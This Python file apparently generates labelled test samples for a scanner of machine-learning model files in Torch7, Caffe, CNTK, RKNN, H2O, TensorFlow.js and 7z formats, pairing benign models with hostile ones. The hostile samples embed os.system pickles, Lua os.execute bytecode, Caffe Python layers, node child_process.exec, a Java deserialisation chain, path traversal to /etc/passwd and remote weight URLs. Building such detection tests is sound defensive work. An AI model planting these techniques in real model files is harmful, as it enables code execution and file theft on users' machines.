"""Older and rarer formats: Torch7, Caffe, CNTK, RKNN, H2O, TensorFlow.js, 7z.

Sources: torch7 File.lua; caffe/src/caffe/proto/caffe.proto; CNTK Source/CNTKv2LibraryDll/proto;
h2o-3 hex.genmodel; tfjs-core io/types.ts.
"""

from __future__ import annotations

import json
import random
import struct
from collections.abc import Iterator, Sequence

from bench.corpus.unit import COMMAND, HOST, Family, Unit
from bench.corpus.writers import binaries, safetensors, sevenzip, zips
from bench.corpus.writers import opcodes as op
from bench.corpus.writers.protobuf import field, message

LUA = Family("torch7", "torch.load in Lua, or torchfile")
CAFFE = Family("caffe", "Caffe, OpenCV dnn")
CNTK = Family("cntk", "CNTK")
RKNN = Family("rknn", "RKNN runtime")
H2O = Family("h2o", "H2O genmodel")
TFJS = Family("tfjs", "TensorFlow.js")
SEVEN = Family("sevenzip", "7z, py7zr")
EVIL = op.pickle4(op.call(op.stacked("os", "system"), op.text(COMMAND)))


def units(rng: random.Random) -> Iterator[Unit]:
    yield from _torch7(rng)
    yield from _caffe(rng)
    yield from _binary(rng)
    yield from _h2o(rng)
    yield from _tfjs(rng)
    yield from _seven(rng)


def lua_text(value: str) -> bytes:
    raw = value.encode()
    return struct.pack("<ii", 2, len(raw)) + raw


def lua_number(value: float) -> bytes:
    return struct.pack("<id", 1, value)


def lua_table(index: int, items: Sequence[tuple[bytes, bytes]]) -> bytes:
    return struct.pack("<iii", 3, index, len(items)) + b"".join(k + v for k, v in items)


def lua_function(index: int, code: bytes, kind: int = 8) -> bytes:
    """A function: dumped byte code and its upvalues' table."""
    return struct.pack("<iii", kind, index, len(code)) + code + lua_table(index + 1, [])


def lua_object(index: int, name: str, body: bytes) -> bytes:
    version, raw = b"V 1", name.encode()
    head = struct.pack("<iii", 4, index, len(version)) + version
    return head + struct.pack("<i", len(raw)) + raw + body


def _torch7(rng: random.Random) -> Iterator[Unit]:
    data = safetensors.floats(rng, 4)
    storage = lua_object(3, "torch.FloatStorage", struct.pack("<q", 4) + data)
    tensor = lua_object(2, "torch.FloatTensor", struct.pack("<iqqq", 1, 4, 1, 1) + storage)
    code = b"\x1bLJ\x02\x00os.execute\x00" + COMMAND.encode() + b"\x00"
    plain = [(lua_text("weight"), tensor), (lua_text("train"), struct.pack("<ii", 5, 0))]

    def bad(variant: str, body: bytes) -> Unit:
        return LUA.bad("serialised-function", variant, {"model.t7": body}, payload="holds code")

    yield bad("closure", lua_table(1, [*plain, (lua_text("hook"), lua_function(9, code))]))
    yield bad(
        "legacy-closure", lua_table(1, [*plain, (lua_text("hook"), lua_function(9, code, 7))])
    )
    bare = b"\x1bLua\x51\x00\x01\x04\x08\x04\x08\x00os\x00execute\x00touch corpus-marker\x00"
    yield bad("plain-lua", lua_table(1, [(lua_text("forward"), lua_function(4, bare)), *plain]))
    module = lua_object(
        1, "nn.Sequential", lua_table(5, [(lua_text("updateOutput"), lua_function(9, code))])
    )
    yield bad("in-module", module)
    text = lua_table(1, [*plain, (lua_text("code"), lua_text(f"os.execute('{COMMAND}')"))])
    yield LUA.bad(
        "code-text",
        "os-execute",
        {"model.t7": text},
        payload="text for loadstring",
        expect="suspicious",
    )
    yield LUA.good("model", "table", {"model.t7": lua_table(1, plain)})
    layers = lua_object(
        1,
        "nn.Sequential",
        lua_table(5, [(lua_text("modules"), lua_table(6, [(lua_number(1), tensor)]))]),
    )
    yield LUA.good("model", "module", {"model.t7": layers})
    yield LUA.good(
        "model",
        "texts",
        {"labels.t7": lua_table(1, [(lua_number(i), lua_text(f"class {i}")) for i in range(9)])},
    )


NET = 'name: "net"\ninput: "data"\nlayer {\n  name: "conv1"\n  type: "Convolution"\n  bottom: "data"\n  top: "conv1"\n  convolution_param { num_output: 8 kernel_size: 3 }\n}\n'


def _caffe(rng: random.Random) -> Iterator[Unit]:
    def python(module: str, layer: str, more: str = "") -> str:
        return (
            NET
            + f'layer {{\n  name: "p"\n  type: "Python"\n  bottom: "conv1"\n  top: "p"\n  python_param {{ module: "{module}" layer: "{layer}" {more} }}\n}}\n'
        )

    yield CAFFE.bad(
        "python-layer", "os", {"deploy.prototxt": python("os", "system", f'param_str: "{COMMAND}"')}
    )
    files = {
        "deploy.prototxt": python("evil_layer", "Run"),
        "evil_layer.py": f"import os\nos.system('{COMMAND}')\n\n\nclass Run:\n    pass\n",
    }
    yield CAFFE.bad("python-layer", "own-file", files)
    flat = (
        NET + 'layer { name:"p" type:\'Python\' python_param{module:"subprocess" layer:"Popen"} }'
    )
    yield CAFFE.bad("python-layer", "one-line", {"train.prototxt": flat})
    blob = field(5, safetensors.floats(rng, 16)) + field(7, message((1, 4), (2, 4)))
    inner = message((1, "conv1"), (2, "Convolution"), (7, blob))
    hostile = message((1, "p"), (2, "Python"), (130, message((1, "os"), (2, "system"))))
    yield CAFFE.bad(
        "python-layer",
        "in-weights",
        {"net.caffemodel": message((1, "net"), (100, inner), (100, hostile))},
    )
    source = 'layer {\n  name: "data"\n  type: "HDF5Data"\n  hdf5_data_param { source: "/etc/passwd" batch_size: 1 }\n}\n'
    yield CAFFE.bad(
        "file-layer",
        "hdf5-source",
        {"train.prototxt": source + NET},
        payload="reads a file",
        expect="suspicious",
    )
    output = 'layer {\n  name: "out"\n  type: "HDF5Output"\n  hdf5_output_param { file_name: "/tmp/corpus-marker" }\n}\n'
    yield CAFFE.bad(
        "file-layer",
        "hdf5-output",
        {"deploy.prototxt": NET + output},
        payload="writes a file",
        expect="suspicious",
    )
    yield CAFFE.bad("disguised", "pickle", {"net.caffemodel": EVIL}, loader="pickle.load")
    elf = field(5, binaries.elf(b"x"))
    yield CAFFE.bad(
        "executable",
        "blob",
        {
            "net.caffemodel": message(
                (1, "net"), (100, message((1, "c"), (2, "Convolution"), (7, elf)))
            )
        },
        payload="carries code",
    )
    yield CAFFE.good("network", "deploy", {"deploy.prototxt": NET})
    yield CAFFE.good("network", "weights", {"net.caffemodel": message((1, "net"), (100, inner))})
    yield CAFFE.good(
        "network",
        "both",
        {"deploy.prototxt": NET, "net.caffemodel": message((1, "net"), (100, inner))},
    )
    yield CAFFE.good(
        "network",
        "solver",
        {
            "solver.prototxt": 'net: "train.prototxt"\nbase_lr: 0.01\nsnapshot_prefix: "snap"\nsolver_mode: GPU\n'
        },
    )
    words = NET.replace("conv1", "Python_layer_os")
    yield CAFFE.good("network", "names", {"deploy.prototxt": words})


def _binary(rng: random.Random) -> Iterator[Unit]:
    def dictionary(**items: str) -> bytes:
        entries = b"".join(
            field(2, message((1, k), (2, message((1, 2), (7, v))))) for k, v in items.items()
        )
        return message((1, 1)) + entries

    usual = dictionary(type="CompositeFunction", root="Times1", uid="Composite1")
    yield CNTK.bad(
        "native-function",
        "library",
        {
            "model.cntk": usual
            + dictionary(type="NativeUserFunction", module="/tmp/libevil.so", op="Run")
        },
        payload="loads a library",
    )
    yield CNTK.bad(
        "native-function",
        "python",
        {
            "model.dnn": usual
            + dictionary(type="UserFunction", module="os", deserialize_method="system")
        },
        payload="calls Python",
    )
    yield CNTK.bad(
        "executable",
        "elf",
        {"model.cntk": usual + field(2, binaries.elf(b"x"))},
        payload="carries code",
    )
    yield CNTK.bad("disguised", "pickle", {"model.cntk": EVIL}, loader="pickle.load")
    yield CNTK.good("model", "composite", {"model.cntk": usual})
    yield CNTK.good(
        "model",
        "weights",
        {"model.dnn": usual + field(2, message((1, "w"), (2, safetensors.floats(rng, 16))))},
    )
    head = b"RKNN" + bytes(4) + struct.pack("<QQ", 6, 256)
    body = safetensors.floats(rng, 64)
    elf = binaries.elf(b"system")
    facts = json.dumps(
        {"version": "1.6.0", "target_platform": ["rk3588"], "ori_network_platform": "onnx"}
    )
    yield RKNN.bad(
        "native-operator",
        "embedded-library",
        {"model.rknn": head + body + elf + facts.encode()},
        payload="carries code",
    )
    named = json.dumps(
        {"version": "1.6.0", "custom_op": [{"op": "cst", "library": "/tmp/libevil.so"}]}
    )
    yield RKNN.bad(
        "native-operator",
        "library-path",
        {"model.rknn": head + body + named.encode()},
        payload="names a library",
        expect="suspicious",
    )
    yield RKNN.bad("disguised", "elf", {"model.rknn": elf}, payload="is a program")
    yield RKNN.good("model", "plain", {"model.rknn": head + body + facts.encode()})
    yield RKNN.good("model", "noise", {"model.rknn": head + rng.randbytes(900) + facts.encode()})


def _h2o(rng: random.Random) -> Iterator[Unit]:
    ini = "[info]\nalgorithm = Gradient Boosting Machine\nmojo_version = 1.40\nn_trees = 1\nn_columns = 5\n[columns]\na\nb\n[domains]\n"
    tree = rng.randbytes(60)
    usual = {
        "model.ini": ini.encode(),
        "trees/t00_000.bin": tree,
        "experimental/modelDetails.json": b"{}",
    }
    yield H2O.bad(
        "member",
        "class",
        {"model.zip": zips.pack({**usual, "Exploit.class": binaries.java_class()})},
        payload="carries code",
    )
    yield H2O.bad(
        "member",
        "jar",
        {
            "model.zip": zips.pack(
                {**usual, "lib/x.jar": zips.pack({"Exploit.class": binaries.java_class()})}
            )
        },
        payload="carries code",
    )
    yield H2O.bad(
        "slip",
        "tree-name",
        {"model.zip": zips.pack({**usual, "trees/../../../tmp/corpus-marker": b"x"})},
        payload="writes outside the folder",
    )
    pojo = 'import hex.genmodel.*;\npublic class gbm extends GenModel {\n  static { try { Runtime.getRuntime().exec("true"); } catch (Exception e) {} }\n}\n'
    yield H2O.bad(
        "source", "static-block", {"gbm.java": pojo}, payload="runs when the class is loaded"
    )
    gadget = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactorI\x00\tthreshold"
    yield H2O.bad(
        "java-serialised",
        "hash-map",
        {
            "model.bin": gadget
            + b"xp?@\x00\x00\x00\x00\x00\x0c"
            + b"org.apache.commons.collections.functors.InvokerTransformer"
            + b"getRuntime"
        },
        payload="a Java deserialisation chain",
    )
    yield H2O.good("mojo", "gbm", {"model.zip": zips.pack(usual, zips.DEFLATED)})
    yield H2O.good(
        "mojo",
        "glm",
        {
            "model.zip": zips.pack(
                {
                    "model.ini": ini.replace(
                        "Gradient Boosting Machine", "Generalized Linear Modeling"
                    ).encode(),
                    "domains/d000.txt": b"a\nb\n",
                }
            )
        },
    )


def _tfjs(rng: random.Random) -> Iterator[Unit]:
    weights = [{"name": "dense/kernel", "shape": [4, 4], "dtype": "float32"}]

    def model(paths: list[str], layer: str = "Dense", **config: object) -> dict[str, object]:
        topology = {
            "model_config": {
                "class_name": "Sequential",
                "config": {
                    "layers": [{"class_name": layer, "config": {"name": "d", "units": 4, **config}}]
                },
            }
        }
        return {
            "format": "layers-model",
            "generatedBy": "keras v2.15.0",
            "convertedBy": "TensorFlow.js Converter v4.17.0",
            "modelTopology": topology,
            "weightsManifest": [{"paths": paths, "weights": weights}],
        }

    body = safetensors.floats(rng, 16)

    def bad(technique: str, variant: str, files: dict[str, object], payload: str) -> Unit:
        return TFJS.bad(technique, variant, files, payload=payload)

    yield bad(
        "weight-path",
        "parent",
        {"model.json": model(["../../../etc/passwd"])},
        "reads outside the folder",
    )
    yield bad(
        "weight-path",
        "url",
        {"model.json": model([f"http://{HOST}/w.bin"])},
        "fetches from elsewhere",
    )
    yield bad(
        "weight-path",
        "absolute",
        {"model.json": model(["/etc/passwd"])},
        "reads outside the folder",
    )
    lam = model(
        ["group1-shard1of1.bin"],
        "Lambda",
        function=["4wAAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMMAAAAdABk", None, None],
        function_type="lambda",
    )
    yield bad(
        "lambda",
        "python",
        {"model.json": lam, "group1-shard1of1.bin": body},
        "runs when Keras reads it back",
    )
    script = {
        "model.json": model(["w.bin"]),
        "w.bin": body,
        "index.js": f"require('child_process').exec('{COMMAND}')\n",
    }
    yield bad("script", "child-process", script, "runs a command in node")
    yield bad(
        "disguised",
        "pickle-shard",
        {"model.json": model(["group1-shard1of1.bin"]), "group1-shard1of1.bin": EVIL},
        "a pickle as weights",
    )
    yield TFJS.good(
        "model",
        "layers",
        {"model.json": model(["group1-shard1of1.bin"]), "group1-shard1of1.bin": body},
    )
    graph = {
        "format": "graph-model",
        "modelTopology": {
            "node": [
                {"name": "x", "op": "Placeholder"},
                {"name": "r", "op": "Relu", "input": ["x"]},
            ],
            "versions": {},
        },
        "weightsManifest": [{"paths": ["group1-shard1of1.bin"], "weights": weights}],
    }
    yield TFJS.good("model", "graph", {"model.json": graph, "group1-shard1of1.bin": body})
    yield TFJS.good(
        "model",
        "shards",
        {
            "model.json": model(["group1-shard1of2.bin", "group1-shard2of2.bin"]),
            "group1-shard1of2.bin": body[:32],
            "group1-shard2of2.bin": body[32:],
        },
    )


def _seven(rng: random.Random) -> Iterator[Unit]:
    weights = safetensors.weights(rng, {"w": (4, 4)})
    yield SEVEN.bad(
        "member", "pickle", {"model.7z": sevenzip.pack({"config.json": b"{}", "model.pkl": EVIL})}
    )
    yield SEVEN.bad(
        "member",
        "elf",
        {"model.7z": sevenzip.pack({"w.safetensors": weights, "run": binaries.elf(b"x")})},
        payload="carries code",
    )
    yield SEVEN.bad(
        "slip",
        "parent",
        {"model.7z": sevenzip.pack({"../../tmp/corpus-marker": b"x"})},
        payload="writes outside the folder",
    )
    yield SEVEN.bad("disguised", "named-zip", {"model.zip": sevenzip.pack({"model.pkl": EVIL})})
    yield SEVEN.good(
        "archive",
        "weights",
        {"model.7z": sevenzip.pack({"model.safetensors": weights, "README.md": b"# m\n"})},
        expect="suspicious",
    )
    yield SEVEN.good(
        "archive",
        "texts",
        {"data.7z": sevenzip.pack({"a.csv": b"a,b\n1,2\n", "b.txt": b"text\n"})},
        expect="suspicious",
    )
